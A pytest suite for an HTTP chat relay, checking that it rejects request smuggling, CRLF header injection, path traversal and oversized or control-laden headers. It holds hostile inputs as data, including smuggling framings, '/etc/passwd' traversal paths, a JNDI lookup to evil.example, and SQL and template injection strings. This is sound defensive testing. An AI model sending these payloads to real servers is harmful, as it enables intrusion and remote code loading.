"""Requests made by hand: framings that two parsers could read in two ways, and bytes that no header may hold.

Each is answered as one request or as none, nothing is begun that was not asked for in order, and nothing that a client
has sent comes out as a header.
"""

import json
import re
from collections.abc import AsyncIterator
from typing import Any, Final, NamedTuple

import pytest

from tests.hostile import CHAT, HOST, JSON, UNKNOWN, chunked, exchanged, poured, told
from tests.relay import SSE, Relay, connect, running, until
from tests.upstream import Upstream, answer, chunk, hang, head

HEAD_BYTES: Final = 16 * 1024
POST: Final = b"POST /chat/stream HTTP/1.1\r\n" + HOST + JSON
CHUNKED: Final = POST + b"transfer-encoding: chunked\r\n\r\n"
BYTES: Final = b"%d" % len(CHAT)
WHOLE: Final = chunked(CHAT) + b"0\r\n\r\n"
CLOSE: Final = b"connection: close\r\n"


class Served(NamedTuple):
    upstream: Upstream
    relay: Relay

    async def answered(self, data: bytes) -> bytes:
        return await exchanged(self.relay.port, data)


@pytest.fixture(scope="module")
async def served() -> AsyncIterator[Served]:
    limits = {"max_header_bytes": HEAD_BYTES, "body_timeout_seconds": 10, "head_timeout_seconds": 10}
    async with Upstream() as upstream, running(upstream.base_url, log_level="error", **limits) as relay:
        upstream.script(answer("ok"))
        yield Served(upstream, relay)


# Framing.

REFUSED: Final = {
    "length and chunks": POST + b"content-length: " + BYTES + b"\r\ntransfer-encoding: chunked\r\n\r\n" + WHOLE,
    "chunks and length": POST + b"transfer-encoding: chunked\r\ncontent-length: " + BYTES + b"\r\n\r\n" + WHOLE,
    "two lengths that agree": POST + (b"content-length: " + BYTES + b"\r\n") * 2 + b"\r\n" + CHAT,
    "a list of lengths": POST + b"content-length: %b, %b\r\n\r\n" % (BYTES, BYTES) + CHAT,
    "a length with a sign": POST + b"content-length: +" + BYTES + b"\r\n\r\n" + CHAT,
    "a length in hex": POST + b"content-length: 0x1c\r\n\r\n" + CHAT,
    "a length of nothing": POST + b"content-length:\r\n\r\n" + CHAT,
    "two codings that agree": POST + b"transfer-encoding: chunked\r\n" * 2 + b"\r\n" + WHOLE,
    "chunked, and then not": POST + b"transfer-encoding: chunked, identity\r\n\r\n" + WHOLE,
    "identity": POST + b"transfer-encoding: identity\r\n\r\n" + CHAT,
    "nearly chunked": POST + b"transfer-encoding: xchunked\r\n\r\n" + WHOLE,
    "chunked behind a control": POST + b"transfer-encoding: \x0bchunked\r\n\r\n" + WHOLE,
    "a space before the colon": POST + b"transfer-encoding : chunked\r\n\r\n" + WHOLE,
    "lines without a CR": POST.replace(b"\r", b"") + b"transfer-encoding: chunked\n\n" + WHOLE,
    "chunks without a CR": CHUNKED + WHOLE.replace(b"\r", b""),
    "a chunk in 0x": CHUNKED + b"0x" + WHOLE,
    "a chunk behind a space": CHUNKED + b" " + WHOLE,
    "a chunk of a minus": CHUNKED + b"-" + WHOLE,
    "a chunk beyond numbers": CHUNKED + b"f" * 18 + b"\r\n" + CHAT,
    "a line end in an extension": CHUNKED + b'1c;a="\r\n"\r\n' + CHAT + b"\r\n0\r\n\r\n",
    "a head that begins with a space": b"POST /chat/stream HTTP/1.1\r\n x: y\r\n" + HOST + JSON + b"\r\n",
    "a header without a name": POST + b": x\r\n\r\n",
    "a header without a colon": POST + b"content-length\r\n\r\n",
    "a name in braces": POST + b"x{}: 1\r\n\r\n",
    "a name beyond ASCII": POST + b"x-\xc3\xa9: 1\r\n\r\n",
    "a NUL in a name": POST + b"x\0y: 1\r\n\r\n",
    "an address instead of a path": b"GET localhost:80 HTTP/1.1\r\n" + HOST + b"\r\n",
    "CONNECT": b"CONNECT localhost:80 HTTP/1.1\r\n" + HOST + b"\r\n",
    "a script instead of a path": b"GET javascript:alert(1) HTTP/1.1\r\n" + HOST + b"\r\n",
    "a query and no path": b"GET ?message=hi HTTP/1.1\r\n" + HOST + b"\r\n",
    "a port beyond ports": b"GET http://localhost:99999999/ HTTP/1.1\r\n" + HOST + b"\r\n",
    "ESC in a path": b"GET /\x1b[31m HTTP/1.1\r\n" + HOST + b"\r\n",
    "a method in small letters": b"get /healthz HTTP/1.1\r\n" + HOST + b"\r\n",
    "a version that is none": b"GET /healthz HTTP/9.9\r\n" + HOST + b"\r\n",
}


@pytest.mark.parametrize("data", REFUSED.values(), ids=REFUSED.keys())
async def test_what_could_be_read_in_two_ways_is_refused_and_ends_the_connection(served: Served, data: bytes) -> None:
    before = len(served.upstream.requests)
    said = await served.answered(data + b"GET /healthz HTTP/1.1\r\n" + HOST + b"\r\n")
    assert said.startswith(b"HTTP/1.1 400 ")
    assert json.loads(said.partition(b"\r\n\r\n")[2])["error"]["code"] == "invalid_request"
    assert len(served.upstream.requests) == before


TAKEN: Final = {
    "an extension": CHUNKED + b"1c;a=b;c\r\n" + CHAT + b"\r\n0\r\n\r\n",
    "a byte a chunk": CHUNKED + b"".join(chunked(CHAT[at : at + 1]) for at in range(len(CHAT))) + b"0\r\n\r\n",
    "a tab before the coding": POST + b"transfer-encoding:\tchunked\r\n\r\n" + WHOLE,
    "an expectation": POST + b"expect: 100-continue\r\ncontent-length: " + BYTES + b"\r\n\r\n" + CHAT,
    "another expectation": POST + b"expect: a-miracle\r\ncontent-length: " + BYTES + b"\r\n\r\n" + CHAT,
    "an empty line before": b"\r\n\r\n" + POST + b"content-length: " + BYTES + b"\r\n\r\n" + CHAT,
}


@pytest.mark.parametrize("data", TAKEN.values(), ids=TAKEN.keys())
async def test_what_can_be_read_in_one_way_is_one_request(served: Served, data: bytes) -> None:
    before = len(served.upstream.requests)
    said = await served.answered(data.replace(HOST, HOST + CLOSE))
    assert said.replace(b"HTTP/1.1 100 Continue\r\n\r\n", b"").startswith(b"HTTP/1.1 200 OK\r\n")
    assert said.count(b"HTTP/1.1 200") == said.count(b"data: [DONE]") == len(served.upstream.requests) - before == 1


@pytest.mark.parametrize("hidden", ["GET", "POST"])
async def test_a_request_hidden_behind_a_body_is_not_answered(served: Served, hidden: str) -> None:
    behind = b"%b /chat/stream/%b HTTP/1.1\r\nhost: localhost\r\n\r\n" % (hidden.encode(), UNKNOWN.encode())
    said = await served.answered(POST + b"content-length: " + BYTES + b"\r\n\r\n" + CHAT + behind)
    assert said.count(b"HTTP/1.1") <= 1
    assert b"404" not in said


@pytest.mark.parametrize("version", ["1.0", "1.1"])
async def test_behind_the_last_request_nothing_is_heard(served: Served, version: str) -> None:
    first = f"GET /healthz HTTP/{version}\r\nhost: localhost\r\nconnection: close\r\n\r\n".encode()
    said = await served.answered(first + b"GET /nowhere HTTP/1.1\r\n" + HOST + b"\r\n")
    assert (said.count(b"HTTP/1.1"), said.startswith(b"HTTP/1.1 200 ")) == (1, True)


@pytest.mark.parametrize("noise", [b"\r\nPOST", b"\0", b"\x16\x03\x01", b"GET / HTTP/1.1\r\n"], ids=repr)
async def test_noise_while_a_stream_runs_starts_nothing(noise: bytes) -> None:
    async with Upstream() as upstream, running(upstream.base_url, log_level="error") as relay:
        upstream.script((head(), chunk("on and on"), hang()))
        async with connect(relay.port) as connection:
            connection.writer.write(POST + b"content-length: " + BYTES + b"\r\n\r\n" + CHAT)
            await connection.reader.readuntil(b"on and on")
            connection.writer.write(noise)
            connection.writer.write_eof()
            assert b"HTTP/1.1" not in await told(connection)
            await upstream.wait_for(lambda seen: seen.aborted == 1)
        assert len(upstream.requests) == 1


# What comes behind a body.


async def test_a_trailer_is_no_header(served: Served) -> None:
    """A proxy that takes a header away, or sets its own, may not have looked behind the body (RFC 9110 §6.5.1)."""
    trailers = {
        "x-request-id": "of-a-trailer",
        "idempotency-key": "not-of-the-head",
        "cookie": "relay_subject=" + "a" * 32,
        "host": "evil.example",
        "authorization": "Basic x",
        "x-forwarded-for": "192.0.2.1",
        "x-on-disconnect": "nonsense",
        "connection": "keep-alive",
    }
    lines = "".join(f"{name}: {value}\r\n" for name, value in trailers.items()).encode()
    said = await served.answered(CHUNKED.replace(HOST, HOST + CLOSE) + chunked(CHAT) + b"0\r\n" + lines + b"\r\n")
    assert said.startswith(b"HTTP/1.1 200 OK\r\n")
    assert b"set-cookie: relay_subject=" in said
    assert not [value for value in trailers.values() if value.encode() in said]


ENDLESS: Final = {
    "an extension": b"1;x=",
    "a trailer's name": b"0\r\nx",
    "a trailer's value": b"0\r\nx: ",
    "a chunk's size": b"0",
}


@pytest.mark.parametrize("beginning", ENDLESS.values(), ids=ENDLESS.keys())
async def test_what_has_no_end_and_is_no_body_is_cut_short(served: Served, beginning: bytes) -> None:
    more = (b"0" if beginning == b"0" else b"a") * HEAD_BYTES
    async with connect(served.relay.port) as connection:
        connection.writer.write(CHUNKED + beginning)
        assert await poured(connection, more) == "cut short"
    await until(lambda: not served.relay.server_state.connections)


async def test_trailers_without_number_are_cut_short(served: Served) -> None:
    said = await served.answered(CHUNKED + chunked(CHAT) + b"0\r\n" + b"x: y\r\n" * (HEAD_BYTES // 4) + b"\r\n")
    assert said == b"" or said.startswith(b"HTTP/1.1 400 ")


# Targets and versions.

TARGETS: Final = {
    "GET http://evil.example/chat/stream HTTP/1.1": 403,
    "GET http://localhost/healthz HTTP/1.1": 200,
    "GET //evil.example/healthz HTTP/1.1": 404,
    "GET /healthz/../chat/stream HTTP/1.1": 404,
    "GET /%2e%2e/%2e%2e/etc/passwd HTTP/1.1": 404,
    "GET /static/%2e%2e/index.html HTTP/1.1": 404,
    "GET /static/..%2f..%2fmain.py HTTP/1.1": 404,
    "GET /static//etc/passwd HTTP/1.1": 404,
    "GET /static/page.js%00.css HTTP/1.1": 404,
    "GET /%0d%0aset-cookie:%20injected=1 HTTP/1.1": 404,
    "GET /v1/models/%0d%0aset-cookie:%20injected=1 HTTP/1.1": 404,
    "GET /api/chat/%0d%0aset-cookie:%20injected=1/stream HTTP/1.1": 204,
    "GET /api/chat/%00/stream HTTP/1.1": 204,
    f"GET /chat/stream/{UNKNOWN}%0aset-cookie:injected=1 HTTP/1.1": 404,
    f"GET /chat/stream/{UNKNOWN}?after=%0d%0aset-cookie:injected=1 HTTP/1.1": 400,
    "OPTIONS * HTTP/1.1": 404,
    "TRACE / HTTP/1.1": 405,
    "GET /healthz HTTP/1.0": 200,
    "GET /healthz HTTP/2.0": 200,
    "GET /healthz": 200,
}


@pytest.mark.parametrize("line", TARGETS)
async def test_an_odd_target_is_a_path_or_none(served: Served, line: str) -> None:
    before = len(served.upstream.requests)
    said = await served.answered(line.encode() + b"\r\n" + HOST + CLOSE + b"x-secret: do not echo\r\n\r\n")
    begun = [request for request in served.upstream.requests[before:] if request.path != "/v1/models"]
    assert said.startswith(b"HTTP/1.1 %d " % TARGETS[line])
    assert (begun, b"injected" in said.partition(b"\r\n\r\n")[0], b"do not echo" in said) == ([], False, False)


async def test_a_whole_url_does_not_stand_for_a_host(served: Served) -> None:
    line = b"GET http://localhost/chat/stream/%b HTTP/1.1\r\n" % UNKNOWN.encode()
    said = await served.answered(line + b"host: evil.example\r\n" + CLOSE + b"\r\n")
    assert said.startswith(b"HTTP/1.1 400 ")
    assert b'"param":"Host"' in said


@pytest.mark.parametrize("protocol", ["websocket", "h2c", "TLS/1.0", "relay"])
async def test_the_protocol_is_not_changed(served: Served, protocol: str) -> None:
    fields = f"connection: upgrade, close\r\nupgrade: {protocol}\r\nsec-websocket-version: 13\r\n".encode()
    said = await served.answered(b"GET /healthz HTTP/1.1\r\n" + HOST + fields + b"\r\n")
    assert said.startswith(b"HTTP/1.1 200 ")
    assert b"upgrade" not in said.lower()


# Every header that is read.

READ: Final = [
    *("host", "content-type", "content-length", "transfer-encoding", "connection", "expect", "upgrade"),
    *("authorization", "cookie", "origin", "referer", "sec-fetch-site", "accept", "if-none-match"),
    *("last-event-id", "idempotency-key", "x-request-id", "x-on-disconnect", "x-forwarded-for", "x-forwarded-proto"),
    *("x-timeout-connect", "x-timeout-first-token", "x-timeout-idle", "x-timeout-total"),
    *("access-control-request-method", "access-control-request-headers"),
]
FORBIDDEN: Final = [b"\0", b"\r", b"\n", b"\r\n ", b"\n ", b"\x0b", b"\x0c", b"\x1b", b"\x7f"]


@pytest.mark.parametrize("name", READ)
async def test_no_control_character_is_taken_in_a_header(served: Served, name: str) -> None:
    before = len(served.upstream.requests)
    for bad in FORBIDDEN:
        said = await served.answered(POST + b"%b: a%bset-cookie: injected=1\r\n\r\n" % (name.encode(), bad))
        assert said.startswith(b"HTTP/1.1 400 "), bad
        assert b"injected" not in said, bad
    assert len(served.upstream.requests) == before


ODD: Final = [
    *(b"a\tb", b"\xe2\x80\xa8", b"\xff\xfe", b"\x9b31m", b'"}\\', b"%0d%0a%00", b"a" * 8192, b"," * 8192, b";=" * 4096),
    *(b"${jndi:ldap://evil.example/a}", b"' OR 1=1 --", b"{{7*7}}", b"\xc3\xa9" * 100, b"1e999", b"-1", b"nan"),
]
ASKED: Final[list[tuple[bytes, bytes]]] = [
    (b"POST /chat/stream", CHAT),
    (b"POST /v1/chat/completions", b'{"model":"m","messages":[{"role":"user","content":"hi"}]}'),
    (b"POST /api/chat", b'{"id":"c","model":"m","messages":[{"role":"user","parts":[{"type":"text","text":"hi"}]}]}'),
    (b"POST /ag-ui", b'{"threadId":"t","runId":"r","messages":[],"forwardedProps":{"model":"m","system":"hi"}}'),
    (b"POST /tokens", b'{"subject":"a"}'),
    (b"POST /session", b'{"token":"a"}'),
    (b"GET /chat/stream?message=hi&model=m", b""),
    (b"GET /chat/stream/%b" % UNKNOWN.encode(), b""),
    (b"DELETE /chat/stream/%b" % UNKNOWN.encode(), b""),
    (b"GET /", b""),
    (b"OPTIONS /chat/stream", b""),
]
FRAMING: Final = ("content-length", "transfer-encoding", "connection", "expect", "upgrade", "host")
SANE: Final = re.compile(rb"[a-zA-Z0-9-]+")
FIELD: Final = re.compile(rb"[a-z0-9-]+: [\x20-\x7e]*")


@pytest.mark.parametrize("name", [name for name in READ if name not in FRAMING])
async def test_whatever_a_header_says_the_answer_is_in_order(served: Served, name: str) -> None:
    for at, odd in enumerate(ODD):
        asked, body = ASKED[at % len(ASKED)]
        fields = [b"host: localhost", b"connection: close", b"content-length: %d" % len(body)]
        fields += [] if name == "content-type" else [b"content-type: application/json"]
        lines = [asked + b" HTTP/1.1", *fields, name.encode() + b": " + odd, b"", b""]
        said = await served.answered(b"\r\n".join(lines) + body)
        status, *answered = said.partition(b"\r\n\r\n")[0].split(b"\r\n")
        assert re.fullmatch(rb"HTTP/1\.1 (200|204|4[0-9]{2}) .*", status), (odd, said[:200])
        assert all(FIELD.fullmatch(field) for field in answered), (odd, answered)
        assert SANE.fullmatch(odd) or not [field for field in answered if odd in field], odd


DOUBLED: Final[dict[str, tuple[str, str, int]]] = {
    "host": ("localhost", "localhost", 400),
    "content-length": (BYTES.decode(), BYTES.decode(), 400),
    "idempotency-key": ("", "k", 400),
    "last-event-id": ("nonsense", f"{UNKNOWN}.1", 400),
    "x-on-disconnect": ("nonsense", "wait", 422),
    "content-type": ("text/plain", "application/json", 415),
    "x-timeout-total": ("1", "2", 200),
}


@pytest.mark.parametrize("name", DOUBLED)
async def test_of_a_header_that_comes_twice_the_first_counts_or_neither(served: Served, name: str) -> None:
    first, second, status = DOUBLED[name]
    fields: list[tuple[str, str]] = [
        ("host", "localhost"),
        ("content-type", "application/json"),
        ("connection", "close"),
    ]
    fields += [("content-length", BYTES.decode()), ("accept", SSE["accept"])]
    lines = [f"{known}: {value}" for known, value in fields if known != name]
    lines += [f"{name}: {first}", f"{name}: {second}"]
    said = await served.answered("\r\n".join(["POST /chat/stream HTTP/1.1", *lines, "", ""]).encode() + CHAT)
    assert said.startswith(b"HTTP/1.1 %d " % status)


async def test_two_credentials_are_none() -> None:
    keys: dict[str, Any] = {"web": {"sha256": ["0" * 64]}}
    async with running("http://127.0.0.1:9/v1", keys=keys, log_level="error") as relay:
        lines = b"authorization: Bearer rk_a\r\nauthorization: Bearer rk_b\r\n"
        said = await exchanged(relay.port, POST.replace(HOST, HOST + CLOSE) + lines + b"content-length: 0\r\n\r\n")
    assert said.startswith(b"HTTP/1.1 401 ")
    assert b"cannot be read" in said
